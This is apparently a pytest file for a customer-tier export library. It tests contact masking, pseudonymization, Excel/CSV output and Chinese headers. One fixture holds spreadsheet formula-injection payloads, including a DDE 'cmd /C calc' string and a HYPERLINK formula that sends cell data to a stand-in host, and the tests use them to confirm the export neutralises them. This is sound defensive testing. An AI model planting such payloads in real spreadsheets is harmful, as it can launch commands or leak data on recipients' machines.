"""Tests for tierlab.io.export: the tier management table, CSV and Excel read back."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from tierlab.datasets import generate
from tierlab.errors import ArgumentError, DataError
from tierlab.io.export import (
    CHANGE_COLUMNS,
    TABLE_COLUMNS,
    export_tier_table,
    tier_table,
    tier_table_summary,
)
from tierlab.io.masking import pseudonymize_ids
from tierlab.tiers.scheme import TierScheme

RULES = Path(__file__).resolve().parents[2] / "data" / "rules"


# ------------------------------------------------------------------------------------- fixtures
@pytest.fixture(scope="module")
def data():
    tx, customers = generate(300, months=12, seed=1)
    customers = customers.copy()
    # a few harder contacts: an international number, a short one, missing values, a note
    # holding a phone number and an e-mail address
    customers.loc[0, "phone"] = "+86 139-1234-5678"
    customers.loc[1, "phone"] = "5551234"
    customers.loc[2, "phone"] = None
    customers.loc[3, "email"] = None
    customers.loc[4, "notes"] = "call 13912345678 or write to boss@corp.example.cn"
    hist = TierScheme.from_yaml(RULES / "monthly_spend.yaml").run(tx, customers=customers)
    return tx, customers, hist


def naive_mask_phone(phone):
    """The masking rule written plainly, one value at a time."""
    if phone is None or (isinstance(phone, float) and np.isnan(phone)):
        return None
    digits = "".join(ch for ch in phone if ch.isdigit())
    if len(digits) >= 11:
        d = digits[-11:]
        return d[:3] + "****" + d[-4:]
    if len(digits) >= 5:
        return "****" + digits[-2:]
    return "****"


def naive_mask_email(email):
    if email is None or (isinstance(email, float) and np.isnan(email)):
        return None
    email = email.strip()
    if "@" not in email or email.startswith("@") or email.count("@") > 1:
        return "***"
    local, domain = email.split("@")
    return local[0] + "***@" + domain


def naive_contact(phone, email):
    parts = [p for p in (naive_mask_phone(phone), naive_mask_email(email)) if p]
    return " / ".join(parts) if parts else None


def all_cell_text(path) -> str:
    wb = openpyxl.load_workbook(path, read_only=True)
    chunks = []
    for ws in wb.worksheets:
        for row in ws.iter_rows(values_only=True):
            chunks.extend(str(v) for v in row if v is not None)
    wb.close()
    return "\n".join(chunks)


# ------------------------------------------------------------------------------------- table
def test_tier_table_rows_and_columns(data):
    _, customers, hist = data
    table = tier_table(hist, customers)
    assert list(table.columns) == list(TABLE_COLUMNS)
    assert sorted(table["customer_id"]) == sorted(hist.customer_ids)
    cur = hist.current
    by_id = table.set_index("customer_id")
    for cid in cur.index[:40]:  # a plain loop over a few customers as the reference
        assert by_id.loc[cid, "tier"] == cur.loc[cid, "tier"]
        assert by_id.loc[cid, "label"] == cur.loc[cid, "label"]
        assert by_id.loc[cid, "tier_since"] == cur.loc[cid, "since"]
        assert by_id.loc[cid, "reason"] == cur.loc[cid, "reason"]
        prev = cur.loc[cid, "previous_tier"]
        assert (pd.isna(prev) and pd.isna(by_id.loc[cid, "previous_tier"])) or \
            by_id.loc[cid, "previous_tier"] == prev


def test_tier_table_sorted_highest_tier_first(data):
    _, customers, hist = data
    table = tier_table(hist, customers)
    rank = table["tier"].map({t: i for i, t in enumerate(hist.scheme.tier_names)}).astype(int)
    assert (np.diff(rank.to_numpy()) <= 0).all()
    for _, ids in table.groupby("tier", observed=True)["customer_id"]:
        assert list(ids) == sorted(ids)


def test_tier_table_contacts_masked_by_default(data):
    _, customers, hist = data
    table = tier_table(hist, customers).set_index("customer_id")
    cust = customers.set_index("customer_id")
    for cid in table.index:
        expected = naive_contact(cust.loc[cid, "phone"], cust.loc[cid, "email"])
        got = table.loc[cid, "contact"]
        assert (expected is None and pd.isna(got)) or got == expected, cid
    text = table.to_csv()
    for phone in cust["phone"].dropna():
        digits = re.sub(r"\D", "", phone)
        assert digits not in re.sub(r"[^\d\n,]", "", text) or len(digits) < 7
    for email in cust["email"].dropna():
        assert email not in text


def test_tier_table_show_contacts(data):
    _, customers, hist = data
    table = tier_table(hist, customers, mask_contacts=False).set_index("customer_id")
    cid = "C00001" if "C00001" in table.index else table.index[0]
    row = customers.set_index("customer_id").loc[cid]
    assert table.loc[cid, "contact"] == f"{row['phone']} / {row['email']}"


def test_tier_table_pseudonymized(data):
    _, customers, hist = data
    table = tier_table(hist, customers, pseudonymize=True, salt="k")
    assert table["customer_id"].str.fullmatch(r"P[0-9a-f]{16}").all()
    assert table[["name", "contact", "notes"]].isna().all().all()
    expected = set(pseudonymize_ids(pd.Series(list(hist.customer_ids)), salt="k"))
    assert set(table["customer_id"]) == expected


def test_tier_table_without_customers(data):
    _, _, hist = data
    table = tier_table(hist, None)
    assert len(table) == len(hist.customer_ids)
    assert table[["name", "contact", "notes"]].isna().all().all()


def test_summary_counts_match_value_counts(data):
    _, _, hist = data
    summary = tier_table_summary(hist).set_index("tier")
    counts = hist.current["tier"].value_counts()
    for tier in hist.scheme.tier_names:
        assert summary.loc[tier, "customers"] == counts.get(tier, 0)
    assert summary["share"].sum() == pytest.approx(1.0)
    last = hist.changes[hist.changes["review"] == hist.reviews[-1]]
    assert summary["up"].sum() == (last["direction"] == "up").sum()
    assert summary["down"].sum() == (last["direction"] == "down").sum()
    assert list(summary.index) == hist.scheme.tier_names[::-1]


# ------------------------------------------------------------------------------------- files
def test_excel_export_read_back(data, tmp_path):
    _, customers, hist = data
    path = export_tier_table(hist, customers, tmp_path / "sub" / "tiers.xlsx")
    assert path.exists()
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["tiers", "summary", "changes"]
    ws = wb["tiers"]
    assert [c.value for c in ws[1]] == list(TABLE_COLUMNS)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref.startswith("A1:")
    widths = {col: ws.column_dimensions[col].width for col in "ABCDEFGHI"}
    assert widths["H"] > 30  # reason: long sentences get a wide column
    assert all(8 <= w <= 62 for w in widths.values())
    assert [c.value for c in wb["changes"][1]] == list(CHANGE_COLUMNS)
    assert wb["changes"].freeze_panes == "A2"
    wb.close()

    sheets = pd.read_excel(path, sheet_name=None, dtype={"customer_id": str})
    expected = tier_table(hist, customers)
    got = sheets["tiers"]
    assert got["customer_id"].tolist() == expected["customer_id"].tolist()
    assert got["tier"].tolist() == expected["tier"].astype(str).tolist()
    assert got["contact"].fillna("").tolist() == expected["contact"].fillna("").tolist()
    assert (pd.to_datetime(got["tier_since"]) == expected["tier_since"]).all()
    assert len(sheets["changes"]) == len(hist.changes)
    assert sheets["summary"]["customers"].sum() == len(hist.customer_ids)

    text = all_cell_text(path)
    for email in customers["email"].dropna():
        assert email not in text
    for phone in customers["phone"].dropna():
        assert phone not in text
    assert "13912345678" not in text and "boss@" not in text  # the note was masked too


def test_excel_export_show_contacts_and_pseudonyms(data, tmp_path):
    _, customers, hist = data
    shown = export_tier_table(hist, customers, tmp_path / "shown.xlsx", mask_contacts=False)
    first = customers.set_index("customer_id").loc[hist.customer_ids[0]]
    assert first["email"] in all_cell_text(shown)
    pseudo = export_tier_table(hist, customers, tmp_path / "p.xlsx", pseudonymize=True,
                               salt="k")
    sheets = pd.read_excel(pseudo, sheet_name=None)
    ids = set(sheets["tiers"]["customer_id"])
    assert set(sheets["changes"]["customer_id"]) <= ids  # the same pseudonym in both sheets
    assert not any(str(i).startswith("C0") for i in ids)


def test_csv_export_writes_three_files(data, tmp_path):
    _, customers, hist = data
    path = export_tier_table(hist, customers, tmp_path / "tiers.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens Chinese text correctly
    table = pd.read_csv(path, dtype={"customer_id": str}, encoding="utf-8-sig")
    assert list(table.columns) == list(TABLE_COLUMNS)
    assert len(table) == len(hist.customer_ids)
    changes = pd.read_csv(tmp_path / "tiers_changes.csv", encoding="utf-8-sig")
    assert list(changes.columns) == list(CHANGE_COLUMNS) and len(changes) == len(hist.changes)
    summary = pd.read_csv(tmp_path / "tiers_summary.csv", encoding="utf-8-sig")
    assert summary["customers"].sum() == len(hist.customer_ids)


def test_bad_extension(data, tmp_path):
    _, customers, hist = data
    with pytest.raises(DataError, match=r"\.xlsx or \.csv"):
        export_tier_table(hist, customers, tmp_path / "tiers.json")


# ------------------------------------------------------------------------------------- hostile text
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab first", "\rCR first", "=1+1"]


@pytest.fixture(scope="module")
def hostile(data):
    """Names and notes that start like spreadsheet formulas, and a tier named like one."""
    tx, customers, hist = data
    customers = customers.copy()
    rows = np.flatnonzero(customers["customer_id"].isin(hist.customer_ids))[:len(HOSTILE)]
    customers.loc[customers.index[rows], "name"] = HOSTILE
    customers.loc[customers.index[rows], "notes"] = HOSTILE
    rules = TierScheme.from_yaml(RULES / "monthly_spend.yaml").to_dict()
    rules["tiers"][0]["name"] = "=Low"
    hist = TierScheme.from_dict(rules).run(tx, customers=customers)
    return customers, hist


def test_excel_text_cells_are_never_formulas(hostile, tmp_path):
    customers, hist = hostile
    path = export_tier_table(hist, customers, tmp_path / "tiers.xlsx", mask_contacts=False)
    wb = openpyxl.load_workbook(path)  # a full load: data_type is what Excel will see
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type in ("f", "e")]
    assert formulas == []
    names = {c.value for c in wb["tiers"]["B"][1:]}
    # the text itself is kept exactly (XML reads a CR back as a line feed)
    assert {t.replace("\r", "\n") for t in HOSTILE} <= names
    assert "=Low" in {c.value for c in wb["tiers"]["D"][1:]}
    wb.close()


def test_csv_text_cells_start_with_a_quote_numbers_untouched(hostile, tmp_path):
    customers, hist = hostile
    path = export_tier_table(hist, customers, tmp_path / "tiers.csv", mask_contacts=False)
    table = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert len(table) == len(hist.customer_ids)  # a CR in a name did not break a row
    for col in table.columns:
        first = table[col].str[:1]
        assert not first.isin(["=", "+", "-", "@", "\t", "\r"]).any(), col
    assert {"'" + t for t in HOSTILE} <= set(table["name"])
    assert "'=Low" in set(table["tier"])
    summary = pd.read_csv(tmp_path / "tiers_summary.csv", encoding="utf-8-sig")
    assert summary["customers"].dtype.kind == "i" and summary["share"].dtype.kind == "f"
    changes = pd.read_csv(tmp_path / "tiers_changes.csv", encoding="utf-8-sig")
    assert "'=Low" in set(changes["to_tier"])


# ------------------------------------------------------------------------------------- pseudonyms
def test_pseudonymized_rows_do_not_keep_the_id_order(data, tmp_path):
    _, customers, hist = data
    path = export_tier_table(hist, customers, tmp_path / "p.xlsx", pseudonymize=True, salt="k")
    sheets = pd.read_excel(path, sheet_name=None, dtype={"customer_id": str})
    tiers, changes = sheets["tiers"], sheets["changes"]
    # within a tier, rows follow the pseudonyms, not the original ids
    for _, ids in tiers.groupby("tier", sort=False)["customer_id"]:
        assert list(ids) == sorted(ids)
    # changes: by pseudonym, then review; never in the original id order
    keys = list(zip(changes["customer_id"], pd.to_datetime(changes["review"]), strict=True))
    assert keys == sorted(keys)
    pseudo_of = dict(zip(hist.customer_ids,
                         pseudonymize_ids(pd.Series(list(hist.customer_ids)), salt="k"),
                         strict=True))
    in_id_order = [pseudo_of[c] for c in sorted(hist.customer_ids)]
    assert list(dict.fromkeys(changes["customer_id"])) != in_id_order


# ------------------------------------------------------------------------------------- masking
def test_phones_with_dots_and_second_emails_are_masked_in_every_file(data, tmp_path):
    tx, customers, hist = data
    customers = customers.copy()
    secrets_ = ["138.1234.5678", "139 8765 4321", "alice@corp.example", "bob.two@corp.example"]
    a, b, c, d = customers.index[np.flatnonzero(customers["customer_id"].isin(
        hist.customer_ids))[10:14]]  # customers who are in the table
    customers.loc[a, "notes"] = "mobile 138.1234.5678, office 139 8765 4321"
    customers.loc[b, "notes"] = "cc alice@corp.example; bob.two@corp.example"
    customers.loc[c, "email"] = "alice@corp.example; bob.two@corp.example"
    customers.loc[d, "phone"] = "138.1234.5678"
    hist = TierScheme.from_yaml(RULES / "monthly_spend.yaml").run(tx, customers=customers)
    xlsx = export_tier_table(hist, customers, tmp_path / "t.xlsx")
    csv_path = export_tier_table(hist, customers, tmp_path / "t.csv")
    texts = {"xlsx": all_cell_text(xlsx), "csv": csv_path.read_text(encoding="utf-8-sig")}
    for where, text in texts.items():
        for secret in secrets_:
            assert secret not in text, (where, secret)
        assert "lice@" not in text and "ob.two@" not in text, where
        assert "a***@corp.example" in text and "b***@corp.example" in text, where


# ------------------------------------------------------------------------------------- languages
ZH_SHEETS = ["客户等级", "等级汇总", "变动历史"]
ZH_TABLE_HEADERS = ["客户编号", "名称", "联系方式", "等级", "等级名称", "等级起始日期", "之前等级",
                    "原因", "备注"]
ZH_CHANGE_HEADERS = ["客户编号", "评审日期", "原等级", "新等级", "方向", "规则", "原因"]
CJK = re.compile(r"[\u4e00-\u9fff]")


def test_excel_export_in_chinese(data, tmp_path):
    _, customers, hist = data
    path = export_tier_table(hist, customers, tmp_path / "tiers_zh.xlsx", lang="zh")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ZH_SHEETS
    ws = wb["客户等级"]
    assert [c.value for c in ws[1]] == ZH_TABLE_HEADERS
    assert [c.value for c in wb["变动历史"][1]] == ZH_CHANGE_HEADERS
    # formats still follow the columns: date-only tier_since, wrapped reasons, percent shares
    assert ws["F2"].number_format == "yyyy-mm-dd" and ws["F2"].is_date
    assert ws["H2"].alignment.wrap_text
    assert wb["等级汇总"]["D2"].number_format == "0.0%"
    labels = set(hist.scheme.labels.values())
    changes = [[c.value for c in row] for row in wb["变动历史"].iter_rows(min_row=2)]
    assert len(changes) == len(hist.changes)
    assert {r[3] for r in changes} <= labels  # to_tier by label
    assert {r[2] for r in changes if r[2] is not None} <= labels
    assert {r[4] for r in changes} <= {"新增", "升级", "降级"}
    assert {r[5] for r in changes} <= {"首次评审", "升级", "降级", "人工调整"}
    assert all(CJK.search(r[6]) for r in changes)  # every reason in Chinese
    wb.close()
    table = pd.read_excel(path, sheet_name="客户等级", dtype={"客户编号": str})
    expected = tier_table(hist, customers, lang="zh")
    assert table["客户编号"].tolist() == expected["customer_id"].tolist()
    assert table["原因"].tolist() == expected["reason"].tolist()
    assert table["原因"].str.contains(CJK).all()
    assert set(table["之前等级"].dropna()) <= labels
    assert table["等级"].tolist() == expected["tier"].astype(str).tolist()  # names, label beside


def test_csv_export_in_chinese(data, tmp_path):
    _, customers, hist = data
    path = export_tier_table(hist, customers, tmp_path / "tiers.csv", lang="zh")
    table = pd.read_csv(path, dtype={"客户编号": str}, encoding="utf-8-sig")
    assert list(table.columns) == ZH_TABLE_HEADERS
    assert table["原因"].str.contains(CJK).all()
    changes = pd.read_csv(tmp_path / "tiers_changes.csv", encoding="utf-8-sig")
    assert list(changes.columns) == ZH_CHANGE_HEADERS and len(changes) == len(hist.changes)
    assert set(changes["方向"]) <= {"新增", "升级", "降级"}


def test_english_reasons_unchanged_and_bad_lang(data, tmp_path):
    _, customers, hist = data
    assert tier_table(hist, customers, lang="en")["reason"].tolist() == \
        tier_table(hist, customers)["reason"].tolist()
    with pytest.raises(ArgumentError, match="zh"):
        export_tier_table(hist, customers, tmp_path / "t.xlsx", lang="fr")


def test_chinese_excel_text_cells_are_never_formulas(hostile, tmp_path):
    customers, hist = hostile
    path = export_tier_table(hist, customers, tmp_path / "tiers.xlsx", mask_contacts=False,
                             lang="zh")
    wb = openpyxl.load_workbook(path)
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type in ("f", "e")]
    assert formulas == []
    assert "=Low" in {c.value for c in wb["客户等级"]["D"][1:]}
    wb.close()
